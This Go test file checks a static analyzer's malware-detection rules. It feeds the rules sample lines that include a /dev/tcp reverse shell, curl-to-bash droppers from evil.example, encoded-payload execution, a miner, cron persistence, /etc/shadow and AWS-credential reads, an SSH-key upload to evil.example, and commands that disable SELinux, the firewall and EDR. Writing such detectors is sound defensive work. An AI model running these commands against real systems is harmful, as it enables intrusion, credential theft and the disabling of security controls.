package analyzer

import (
	"strings"
	"testing"
)

func TestMalwareRules(t *testing.T) {
	tests := []struct {
		name     string
		line     string
		fired    []string
		notFired []string
	}{
		{
			name:  "dev tcp reverse shell",
			line:  "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
			fired: []string{"malware/reverse-shell"},
		},
		{
			name:  "python socket one liner",
			line:  `python3 -c 'import socket,subprocess,os'`,
			fired: []string{"malware/reverse-shell"},
		},
		{
			name:  "curl piped to bash",
			line:  "curl -fsSL http://evil.example/install.sh | bash",
			fired: []string{"malware/dropper"},
		},
		{
			name:  "wget piped to python",
			line:  "wget -qO- http://evil.example/a.py | python3",
			fired: []string{"malware/dropper"},
		},
		{
			name:  "curl piped to sudo bash",
			line:  "curl http://evil.example/x | sudo bash",
			fired: []string{"malware/dropper"},
		},
		{
			name:     "curl piped to grep",
			line:     "curl -s https://api.example.com/items | grep name",
			notFired: []string{"malware/dropper"},
		},
		{
			name:     "curl piped to jq",
			line:     "curl -s https://api.example.com/items | jq '.[0]'",
			notFired: []string{"malware/dropper"},
		},
		{
			name:  "base64 decode piped to shell",
			line:  "echo cGF5bG9hZA== | base64 -d | sh",
			fired: []string{"malware/encoded-exec"},
		},
		{
			name:  "atob eval",
			line:  "eval(atob('bWFsd2FyZQ=='))",
			fired: []string{"malware/encoded-exec", "malware/dynamic-exec"},
		},
		{
			name:     "base64 decode to file",
			line:     "base64 -d payload.b64 > payload.bin",
			notFired: []string{"malware/encoded-exec"},
		},
		{
			name:  "eval of variable",
			line:  "eval(userInput)",
			fired: []string{"malware/dynamic-exec"},
		},
		{
			name:  "exec of string",
			line:  `exec("import os; os.system('id')")`,
			fired: []string{"malware/dynamic-exec"},
		},
		{
			name:  "hex escape payload",
			line:  `payload = "` + strings.Repeat(`\x41`, 12) + `"`,
			fired: []string{"malware/hex-payload"},
		},
		{
			name:  "charcode payload",
			line:  "var s = String.fromCharCode(104,101,108,108,111,33)",
			fired: []string{"malware/hex-payload"},
		},
		{
			name:     "short hex string",
			line:     `magic = "\x7f\x45\x4c\x46"`,
			notFired: []string{"malware/hex-payload"},
		},
		{
			name:  "stratum pool",
			line:  "./miner -o stratum+tcp://pool.evil.example:3333",
			fired: []string{"malware/miner"},
		},
		{
			name:  "xmrig binary",
			line:  "nohup xmrig --donate-level 0 &",
			fired: []string{"malware/miner"},
		},
		{
			name:  "crontab install",
			line:  `(crontab -l; echo "@reboot /tmp/agent") | crontab -`,
			fired: []string{"malware/persistence-cron"},
		},
		{
			name:  "cron drop-in",
			line:  "cp agent /etc/cron.daily/agent",
			fired: []string{"malware/persistence-cron"},
		},
		{
			name:  "launchctl load",
			line:  "launchctl load ~/Library/LaunchAgents/com.evil.plist",
			fired: []string{"malware/persistence-cron"},
		},
		{
			name:     "systemctl enable is downgraded",
			line:     "systemctl enable nginx",
			fired:    []string{"persistence/service"},
			notFired: []string{"malware/persistence-cron"},
		},
		{
			name:  "bashrc append",
			line:  `echo "alias ls='ls --color'" >> ~/.bashrc`,
			fired: []string{"persistence/shell-profile"},
		},
		{
			name:     "bashrc mention only",
			line:     "source ~/.bashrc",
			notFired: []string{"persistence/shell-profile"},
		},
		{
			name:  "shadow read",
			line:  "cat /etc/shadow",
			fired: []string{"malware/shadow-access"},
		},
		{
			name:     "ssh key upload",
			line:     "curl -F key=@~/.ssh/id_rsa http://evil.example/keys",
			fired:    []string{"malware/credential-exfil"},
			notFired: []string{"exfil/credential-access"},
		},
		{
			name:     "aws credentials read",
			line:     "cat ~/.aws/credentials",
			fired:    []string{"exfil/credential-access"},
			notFired: []string{"malware/credential-exfil"},
		},
		{
			name:     "git credential helper",
			line:     "git credential fill < request.txt",
			fired:    []string{"exfil/credential-helper"},
			notFired: []string{"exfil/credential-access"},
		},
		{
			name:  "selinux off",
			line:  "setenforce 0",
			fired: []string{"malware/security-tamper"},
		},
		{
			name:  "firewall off",
			line:  "ufw disable",
			fired: []string{"malware/security-tamper"},
		},
		{
			name:  "edr kill",
			line:  "pkill -9 falcon-sensor",
			fired: []string{"malware/security-tamper"},
		},
		{
			name:     "systemctl stop app is not tampering",
			line:     "systemctl stop nginx",
			notFired: []string{"malware/security-tamper"},
		},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			for _, id := range tt.fired {
				assertFired(t, tt.line, id)
			}
			for _, id := range tt.notFired {
				assertNotFired(t, tt.line, id)
			}
		})
	}
}

func TestEmbeddedBlobRule(t *testing.T) {
	blob := strings.Repeat("QmFzZTY0", 30) // 240 chars of base64 alphabet

	tests := []struct {
		name  string
		line  string
		fired bool
	}{
		{"long blob", "payload = \"" + blob + "\"", true},
		{"short blob", "checksum = \"" + strings.Repeat("YQ==", 10) + "\"", false},
		{"blob in url", "curl https://cdn.example.com/" + blob, false},
		{"image data uri", "src = \"data:image/png;base64," + blob + "\"", false},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			fired := false
			for _, id := range ruleHits(t, tt.line) {
				if id == "malware/embedded-blob" {
					fired = true
				}
			}
			if fired != tt.fired {
				t.Errorf("line %q: blob rule fired=%t, want %t", tt.line, fired, tt.fired)
			}
		})
	}
}
